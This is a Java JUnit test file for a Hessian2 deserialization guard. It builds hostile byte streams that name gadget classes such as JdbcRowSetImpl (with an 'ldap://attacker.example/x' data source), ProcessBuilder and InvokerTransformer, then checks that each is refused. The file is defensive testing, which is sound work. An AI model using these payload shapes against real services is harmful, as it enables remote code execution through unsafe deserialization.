package io.triple.serialization.hessian2;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.alibaba.com.caucho.hessian.io.Hessian2Output;
import io.triple.pojo.spi.ClassGuard;
import io.triple.pojo.spi.ClassRefusedException;
import io.triple.serialization.hessian2.Fixtures.Address;
import io.triple.serialization.hessian2.Fixtures.Holder;
import io.triple.serialization.hessian2.Fixtures.Person;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Hostile bytes, written with hessian-lite's own Hessian2Output the way an attacker's Hessian
 * client would, naming classes the guard refuses in every place Hessian 2 can carry a class name.
 */
class Hessian2GuardTest {
  private static final ClassGuard PERMISSIVE = ClassGuard.permissive(Hessian2GuardTest.class.getClassLoader());
  private static final String EVIL = "io.triple.serialization.hessian2.Evil";

  private final Hessian2Serialization serialization = new Hessian2Serialization();

  interface Body {
    void write(Hessian2Output out) throws IOException;
  }

  private static byte[] bytes(Body body) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    Hessian2Output out = new Hessian2Output(bytes);
    body.write(out);
    out.flushBuffer();
    return bytes.toByteArray();
  }

  /** An object of class {@code type} with one field, as UnsafeSerializer writes one. */
  private static void object(Hessian2Output out, String type, String field, Object value) throws IOException {
    if (out.writeObjectBegin(type) == -1) { // first of its class: the definition, then the instance
      out.writeClassFieldLength(1);
      out.writeString(field);
      out.writeObjectBegin(type);
    }
    out.writeObject(value);
  }

  /** Hostile bytes, and the declared types to read them as. */
  record Shape(String what, byte[] bytes, List<Class<?>> declared) {}

  private static final List<Class<?>> ANY = List.of(Object.class, Holder.class, Map.class, List.class, Object[].class);

  /** Every place a class name travels in Hessian 2, naming {@code className}. */
  private static List<Shape> shapes(String className) throws IOException {
    return List.of(
        new Shape("an object (class definition, then instance)",
            bytes(out -> object(out, className, "dataSourceName", "ldap://attacker.example/x")), ANY),
        new Shape("a typed map, read into an instance of the class", bytes(out -> {
          out.writeMapBegin(className);
          out.writeString("autoCommit");
          out.writeBoolean(true);
          out.writeMapEnd();
        }), ANY),
        new Shape("a typed list", bytes(out -> {
          out.writeListBegin(1, className);
          out.writeString("x");
        }), ANY),
        new Shape("an array of the class", bytes(out -> {
          out.writeListBegin(1, "[" + className);
          out.writeNull();
        }), ANY),
        // Read as another declared class, hessian-lite reads the "name" field into that class and
        // never resolves it; so only where a Class (or anything) is declared.
        new Shape("a java.lang.Class value", bytes(out -> object(out, "java.lang.Class", "name", className)),
            List.of(Object.class, Class.class)),
        new Shape("an object in the Object field of a harmless class", nested(className), List.of(Object.class, Holder.class)));
  }

  /** A {@link Holder} whose Object field holds an object of class {@code className}. */
  private static byte[] nested(String className) throws IOException {
    return bytes(out -> {
      out.writeObjectBegin(Holder.class.getName());
      out.writeClassFieldLength(1);
      out.writeString("payload");
      out.writeObjectBegin(Holder.class.getName());
      object(out, className, "command", "calc");
    });
  }

  private Object read(byte[] bytes, Class<?> declared, ClassGuard guard) throws IOException {
    return serialization.read(new ByteArrayInputStream(bytes), declared, declared, guard);
  }

  private void assertRefused(Shape shape, Class<?> declared, ClassGuard guard, String className) {
    ClassRefusedException e = assertThrows(ClassRefusedException.class, () -> read(shape.bytes(), declared, guard),
        () -> shape.what() + " read as " + declared.getName());
    assertEquals(className, e.className());
    assertTrue(e.getMessage().contains(className), e.getMessage());
  }

  private void assertRefused(byte[] bytes, Class<?> declared, ClassGuard guard, String className) {
    ClassRefusedException e = assertThrows(ClassRefusedException.class, () -> read(bytes, declared, guard),
        () -> "read as " + declared.getName());
    assertEquals(className, e.className());
    assertTrue(e.getMessage().contains(className), e.getMessage());
  }

  @ParameterizedTest
  @ValueSource(strings = {"com.sun.rowset.JdbcRowSetImpl", "java.lang.ProcessBuilder",
      "org.apache.commons.collections.functors.InvokerTransformer"})
  void gadgetsAreRefusedWhereverTheBytesNameThem(String gadget) throws IOException {
    for (Shape shape : shapes(gadget)) {
      for (Class<?> declared : shape.declared()) {
        assertRefused(shape, declared, PERMISSIVE, gadget);
        assertRefused(shape, declared, PERMISSIVE, gadget); // and again: no cache lets the second through
      }
    }
  }

  @Test
  void aClassOutsideAStrictAllowSetIsNeitherLoadedNorCreated() throws IOException {
    AllowSetGuard guard = AllowSetGuard.of(Holder.class, Class.class);
    for (Shape shape : shapes(EVIL)) {
      for (Class<?> declared : shape.declared()) {
        assertRefused(shape, declared, guard, EVIL);
      }
    }
    assertTrue(guard.asked.contains(EVIL));
    assertFalse(Evil.Flag.TOUCHED.get(), "Evil was initialized or instantiated");
  }

  @Test
  void theSameBytesWithTheClassAllowedDoTripTheFlag() throws IOException {
    // Control for the test above: reading such a class when it is allowed does initialize it.
    String tripwire = Tripwire.class.getName();
    Object read = read(nested(tripwire), Holder.class, AllowSetGuard.of(Holder.class, Tripwire.class));
    assertInstanceOf(Tripwire.class, ((Holder) read).payload);
    assertTrue(Tripwire.Flag.TOUCHED.get());
  }

  @Test
  void anUnknownClassIsRefusedNotReadAsAHashMap() throws IOException {
    // Dubbo (and plain hessian-lite) read a class they cannot load as a HashMap of its fields.
    String unknown = "com.example.DoesNotExist";
    assertRefused(bytes(out -> object(out, unknown, "a", 1)), Object.class, PERMISSIVE, unknown);
    assertRefused(nested(unknown), Holder.class, PERMISSIVE, unknown);
  }

  @Test
  void eachReadIsDecidedByItsOwnGuardThoughTheFactoryIsShared() throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    // An array holding no Address: the array's type is the only place the name travels.
    serialization.write(new Holder(new Address[] {null}), Holder.class, out);
    byte[] bytes = out.toByteArray();
    ClassGuard all = AllowSetGuard.of(Holder.class, Address.class);
    ClassGuard noAddress = AllowSetGuard.of(Holder.class);
    for (int i = 0; i < 2; i++) {
      assertInstanceOf(Address[].class, ((Holder) read(bytes, Holder.class, all)).payload);
      assertRefused(bytes, Holder.class, noAddress, Address.class.getName());
    }
  }

  @Test
  void aGadgetDeclaredTypeIsRefusedEvenWhenTheBytesNameNoClass() throws IOException {
    byte[] untypedMap = bytes(out -> {
      out.writeMapBegin(null);
      out.writeMapEnd();
    });
    assertRefused(untypedMap, javax.management.ObjectName.class, PERMISSIVE, "javax.management.ObjectName");
  }

  @Test
  void refusalSurvivesHessianCatchingItInAField() throws IOException {
    // A refused class in a POJO field: hessian-lite wraps the failure in a HessianFieldException;
    // the read still ends with the ClassRefusedException itself.
    byte[] bytes = bytes(out -> {
      out.writeObjectBegin(Person.class.getName());
      out.writeClassFieldLength(1);
      out.writeString("extra");
      out.writeObjectBegin(Person.class.getName());
      object(out, "com.sun.rowset.JdbcRowSetImpl", "dataSourceName", "ldap://x");
    });
    assertRefused(bytes, Person.class, PERMISSIVE, "com.sun.rowset.JdbcRowSetImpl");
  }
}
